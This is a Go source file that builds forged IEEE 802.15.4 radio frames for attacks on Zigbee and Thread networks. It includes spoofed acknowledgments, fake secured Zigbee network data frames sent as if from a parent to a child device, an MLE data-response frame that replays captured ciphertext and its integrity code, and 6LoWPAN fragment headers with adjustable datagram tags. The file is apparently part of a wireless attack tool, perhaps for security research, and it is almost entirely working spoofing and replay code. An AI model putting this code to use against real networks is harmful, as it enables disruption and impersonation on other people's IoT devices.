package protocol

import "encoding/binary"

// Forged frames are written as a PHY length followed by the MAC header
// and whatever payload the receiver must see. The transceiver sends the
// declared length; octets past the body are stale buffer content and the
// FCS is appended by the radio.

const (
	AckPHYLen      = 5
	NWKDataPHYLen  = 127
	MLEPHYLen      = 127
	FragmentPHYLen = 124

	// AckSeqOffset is the body index of the acknowledged sequence number.
	AckSeqOffset = 2
	// FragTagOffset is the body index of the big-endian datagram tag.
	FragTagOffset = 23
)

// MLEDataResponseCiphertext is the captured encrypted MLE payload
// replayed by the secured data-request spoof.
var MLEDataResponseCiphertext = [...]byte{
	0x36, 0x9e, 0xca, 0x0a, 0x5d, 0xca, 0xb2, 0x77,
	0xcb, 0xfd, 0x06, 0x3a, 0xa6, 0xec, 0xe7, 0xfa,
	0xf2, 0x04, 0x52, 0x1c, 0xce, 0x65, 0xca, 0xd3,
	0xa0, 0x44, 0x6c, 0xf8, 0x77, 0xc5, 0xc7, 0x93,
	0x4b, 0x1b, 0x83, 0xa3, 0xfa, 0x4c, 0x09, 0x0d,
	0x36, 0xe0, 0x58, 0x09, 0x3d, 0xa9, 0x7e, 0xa3,
	0xb4, 0x22, 0x69, 0xf9, 0x53, 0xa0, 0xf8, 0x5a,
	0xec, 0x68, 0x2a, 0x17, 0x85, 0xa3, 0x77, 0x79,
	0x01, 0xd5, 0x5f, 0xf2, 0x11, 0x70, 0x89, 0x52,
	0xc4, 0x29, 0x3d, 0x42, 0x51, 0xc8, 0x93, 0x1e,
}

// MLEDataResponseMIC is the message integrity code of the replayed payload.
var MLEDataResponseMIC = [...]byte{0x5d, 0x04, 0x33, 0x25}

// AppendAck appends an acknowledgment body with frame control fcl.
func AppendAck(dst []byte, fcl, seq byte) []byte {
	return append(dst, fcl, 0x00, seq)
}

// AppendNWKData appends a secured Zigbee NWK data frame from the parent
// (ShortSrcAddr) to the child (ShortDstAddr), carrying only the headers
// up to the auxiliary security header.
func AppendNWKData(dst []byte, p Params) []byte {
	dst = append(dst,
		0x71, 0x88, // data, pending, ack req, PAN comp, short/short, 2003
		0xff,
	)
	dst = binary.LittleEndian.AppendUint16(dst, p.PANID)
	dst = binary.LittleEndian.AppendUint16(dst, p.ShortDstAddr)
	dst = binary.LittleEndian.AppendUint16(dst, p.ShortSrcAddr)
	dst = append(dst, 0x08, 0x02) // NWK data, protocol 2, security
	dst = binary.LittleEndian.AppendUint16(dst, p.ShortDstAddr)
	dst = binary.LittleEndian.AppendUint16(dst, p.ShortSrcAddr)
	dst = append(dst,
		0x1e, // radius
		0xff, // NWK sequence number
		0x28, // security control: network key, extended nonce
	)
	dst = binary.LittleEndian.AppendUint32(dst, p.FrameCounter)
	dst = binary.LittleEndian.AppendUint64(dst, p.ExtendedSrcAddr)
	return append(dst, p.KeySeqNum)
}

// appendMACExt appends the 2006 extended/extended MAC header shared by
// the Thread spoofs.
func appendMACExt(dst []byte, p Params) []byte {
	dst = append(dst,
		0x71, 0xdc, // data, pending, ack req, PAN comp, ext/ext, 2006
		0xff,
	)
	dst = binary.LittleEndian.AppendUint16(dst, p.PANID)
	dst = binary.LittleEndian.AppendUint64(dst, p.ExtendedDstAddr)
	return binary.LittleEndian.AppendUint64(dst, p.ExtendedSrcAddr)
}

// AppendMLEDataResponse appends a link-local MLE frame replaying the
// captured secured payload.
func AppendMLEDataResponse(dst []byte, p Params) []byte {
	dst = appendMACExt(dst, p)
	dst = append(dst,
		DispatchIPHC, IPHCLinkLocal,
		NHCUDP,
		HiByte(MLEPort), LoByte(MLEPort),
		HiByte(MLEPort), LoByte(MLEPort),
	)
	dst = binary.BigEndian.AppendUint16(dst, p.UDPChecksum)
	dst = append(dst,
		MLESecuritySuite,
		0x15, // security control: key id mode 2, level 5
	)
	dst = binary.LittleEndian.AppendUint32(dst, p.FrameCounter)
	dst = binary.LittleEndian.AppendUint32(dst, p.KeySource)
	dst = append(dst, p.KeyIndex)
	dst = append(dst, MLEDataResponseCiphertext[:]...)
	return append(dst, MLEDataResponseMIC[:]...)
}

// AppendFragment appends the header of a subsequent 6LoWPAN fragment
// with the given datagram tag.
func AppendFragment(dst []byte, p Params, tag uint16) []byte {
	dst = appendMACExt(dst, p)
	dst = append(dst, 0xe2, 0xc8) // FRAGN, datagram size 712
	dst = binary.BigEndian.AppendUint16(dst, tag)
	return append(dst, 0x11) // datagram offset
}

// PutFragmentTag overwrites the datagram tag of a body built by
// AppendFragment.
func PutFragmentTag(body []byte, tag uint16) {
	binary.BigEndian.PutUint16(body[FragTagOffset:], tag)
}
